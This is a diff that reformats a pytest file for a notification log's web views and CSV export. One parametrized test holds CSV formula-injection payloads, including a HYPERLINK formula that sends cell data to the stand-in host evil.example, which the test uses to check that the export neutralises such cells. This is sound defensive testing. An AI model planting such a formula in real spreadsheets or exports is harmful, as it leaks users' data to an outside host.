@@ -80,7 +80,7 @@ def test_log_filters_by_failure_cause(staff_client):
     assert len(ids()) == 4
     page = staff_client.get(reverse("notification_log"), {"erreur_code": "OPTED_OUT"}).content.decode()
     assert '<option value="OPTED_OUT" selected>' in page
-    row = page[page.index(f'<tr data-id="{opted_out.pk}"'):]
+    row = page[page.index(f'<tr data-id="{opted_out.pk}"') :]
     row = row[: row.index("</tr>")]
     assert row.index("Recipient opted out or cannot receive on this channel") < row.index("21610 STOP")
     assert "451 busy" not in page
@@ -190,7 +190,15 @@ def test_export_is_the_filtered_log_as_csv(staff_client):
 
 @pytest.mark.parametrize(
     "hostile",
-    ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "=1+1", "+33612345678", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1"],
+    [
+        '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+        "=1+1",
+        "+33612345678",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tcmd",
+        "\r=1+1",
+    ],
 )
 def test_export_neutralises_every_cell_a_spreadsheet_would_evaluate(staff_client, hostile):
     """GIVEN a client name, a material code, a recipient and an error text that a spreadsheet reads as a formula,
@@ -207,7 +215,9 @@ def test_export_neutralises_every_cell_a_spreadsheet_would_evaluate(staff_client
     assert row["type_notification"] == "CREATION" and row["niveau_escalade"] == "0"
 
 
-@pytest.mark.parametrize("params", [{"loan": "9" * 20}, {"loan": "²"}, {"date_to": "9999-12-31"}, {"date_from": "0001-01-01"}])
+@pytest.mark.parametrize(
+    "params", [{"loan": "9" * 20}, {"loan": "²"}, {"date_to": "9999-12-31"}, {"date_from": "0001-01-01"}]
+)
 def test_export_with_a_bad_filter_is_refused_before_the_first_byte(staff_client, params):
     """A filter that cannot be used is a 400 with the reason, not a download cut mid-stream nor the whole log."""
     make_log(statut=Statut.ENVOYEE)
@@ -233,7 +243,9 @@ def test_delivery_rate_per_channel_against_its_target(staff_client):
 
 
 def test_detail_shows_error_attempts_and_fallback_chain(staff_client):
-    first = make_log(statut=Statut.ECHEC_PERMANENT, canal=Canal.WHATSAPP, nb_tentatives=1, erreur_message="63016 outside window")
+    first = make_log(
+        statut=Statut.ECHEC_PERMANENT, canal=Canal.WHATSAPP, nb_tentatives=1, erreur_message="63016 outside window"
+    )
     second = make_log(first.attribution, statut=Statut.ENVOYEE, canal=Canal.SMS, fallback_of=first, nb_tentatives=1)
     html = staff_client.get(reverse("notification_detail", args=[first.pk])).content.decode()
     assert "63016 outside window" in html
